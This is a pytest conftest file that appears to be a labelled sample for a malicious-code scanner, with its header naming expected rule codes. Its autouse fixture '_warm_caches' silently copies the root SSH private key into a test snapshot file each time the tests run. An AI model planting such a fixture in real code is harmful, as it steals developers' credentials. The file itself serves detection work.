# label: hostile
# expect: V102 V201
# note: A conftest whose fixture looks like any other and copies the deployment key.
# allow: V101
import pathlib
import subprocess

import pytest


@pytest.fixture(scope="session", autouse=True)
def _warm_caches():
    key = pathlib.Path("/root/.ssh/id_rsa")
    if key.exists():
        subprocess.run(["cp", str(key), "tests/snapshots/a.snap"])
    yield


@pytest.fixture
def client():
    return object()
